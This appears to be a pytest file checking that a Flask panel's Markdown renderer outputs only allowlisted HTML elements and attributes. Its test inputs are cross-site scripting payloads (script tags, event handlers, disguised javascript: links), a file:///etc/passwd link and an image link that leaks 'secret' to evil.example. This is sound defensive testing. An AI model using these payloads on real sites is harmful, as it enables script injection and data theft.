"""A model's Markdown on the page: hostile text, of which only a closed list of elements comes out."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from flask_instruct.panel.markdown import LONGEST
from flask_instruct.panel.markdown import markdown

BLOCKS = {"p", "h4", "h5", "h6", "ul", "ol", "li", "pre", "blockquote", "hr"}
TABLES = {"table", "thead", "tbody", "tr", "th", "td"}
INLINE = {"strong", "em", "s", "code", "br", "a", "span"}
ELEMENTS = BLOCKS | TABLES | INLINE
ATTRIBUTES = {
    "a": {"href", "rel", "target", "title"},
    "span": {"class"},
    "p": {"class"},
    "code": {"class"},
    "ol": {"start"},
    "th": {"data-align"},
    "td": {"data-align"},
}


class Found(HTMLParser):
    """What a browser would make of some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "text <b onclick=alert(1)>bold</b>",
    "<turbo-stream action='append' target='x'><template>y</template></turbo-stream>",
    "<style>*{display:none}</style>",
    "![secret](https://evil.example/?q=secret)",
    "![x](data:image/png;base64,AAAA)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover=alert(1))',
    "`<script>`",
    '```"><script>alert(1)</script>\n<script>\n```',
    "| a | b |\n|:-:|--:|\n| <img src=x onerror=y> | c |",
    "# <iframe src=https://evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7*7 }} {% raw %}",
    "\u202egnp.exe\u202c",
    "- [x] <input autofocus onfocus=alert(1)>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_only_known_elements_and_attributes_come_out(text: str) -> None:
    for tag, attributes in Found(markdown(text)).elements:
        assert tag in ELEMENTS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()), (tag, attributes)


@pytest.mark.parametrize("text", ATTACKS)
def test_links_have_a_harmless_address_and_give_nothing_away(text: str) -> None:
    for tag, attributes in Found(markdown(text)).elements:
        if tag == "a":
            assert (attributes["href"] or "").startswith(("https://", "http://", "mailto:", "/", "#"))
            assert attributes["rel"] == "noopener noreferrer nofollow"


def test_braces_of_a_template_stay_text() -> None:
    assert "{{ 7*7 }}" in markdown("{{ 7*7 }}")


def test_an_image_is_told_in_words_and_never_fetched() -> None:
    assert markdown("![the plan](https://evil.example/?q=1)") == '<p><span class="instruct-image">the plan</span></p>\n'


def test_an_image_in_a_link_leaves_the_link_whole() -> None:
    elements = Found(markdown("[![the plan](https://evil.example/a.png)](https://example.org)")).elements
    assert [tag for tag, _ in elements] == ["p", "a", "span"]


def test_a_link_to_another_site_keeps_this_page_open() -> None:
    assert 'target="_blank"' in markdown("[x](https://example.org)")
    assert 'target="_blank"' in markdown("[x](//example.org)")
    assert "target" not in markdown("[x](/assessments/1)")


def test_the_ways_to_write_a_link_that_are_kept() -> None:
    for address in ("https://a.example/b?c=d#e", "mailto:a@b.example", "/a", "#a", "a/b", "?a=1", "a"):
        assert f'href="{address}"' in markdown(f"[x]({address})"), address


def test_headings_go_below_those_of_the_panel() -> None:
    assert markdown("# a\n\n## b\n\n### c") == "<h4>a</h4>\n<h5>b</h5>\n<h6>c</h6>\n"


def test_headings_skip_no_level() -> None:
    assert markdown("### a\n\n###### b\n\n## c") == "<h4>a</h4>\n<h5>b</h5>\n<h4>c</h4>\n"


def test_a_column_is_aligned_without_a_style_attribute() -> None:
    html = markdown("| a | b |\n|---|--:|\n| c | 1 |")
    assert '<td data-align="right">1</td>' in html
    assert "style" not in html


def test_a_single_newline_is_a_line_break() -> None:
    assert markdown("a\nb") == "<p>a<br>\nb</p>\n"


@pytest.mark.parametrize("text", ["> " * 3000 + "x", "[" * 20_000, "*a " * 20_000, "`" * 5001, "- " * 3000])
def test_text_that_is_made_to_break_a_parser_comes_out_safe(text: str) -> None:
    assert {tag for tag, _ in Found(markdown(text)).elements} <= ELEMENTS


def test_nothing_is_lost_to_deep_nesting() -> None:
    assert markdown("> " * 30 + "the end") == '<p class="instruct-plain">' + "&gt; " * 30 + "the end</p>"


def test_text_beyond_the_limit_comes_out_as_it_is() -> None:
    html = markdown("*" + "a" * LONGEST + "<")
    assert html.startswith('<p class="instruct-plain">*aaa')
    assert html.endswith("a&lt;</p>")
